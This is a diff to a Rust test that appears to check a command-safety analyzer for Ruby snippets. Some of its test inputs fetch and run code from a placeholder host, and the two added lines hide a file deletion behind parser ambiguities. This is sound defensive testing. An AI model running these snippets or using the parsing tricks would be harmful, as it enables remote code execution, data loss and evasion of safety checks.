@@ -197,6 +197,8 @@ fn what_is_not_known() {
         require "open-uri"; eval open("https://h/x").read => executes curl https://h/x; ? Computed anything
         require "net/http"; eval Net::HTTP.get(URI("https://h/x")) => executes curl https://h/x; ? Computed anything
         require "net/http"; system Net::HTTP.get(URI("https://h/x")) => executes curl https://h/x; ? Computed anything
+        f = 4; f /2; File.delete "victim" # / => ? Computed anything
+        f = 4; f <<X⏎File.delete "victim"⏎X => ? Computed anything
         File.delete(gets) => deletes File.delete(gets)
         f = "a"; f.insert(0, "b"); File.delete f => deletes a; deletes File.delete f
         def f( => ? Library named; ? Foreign named
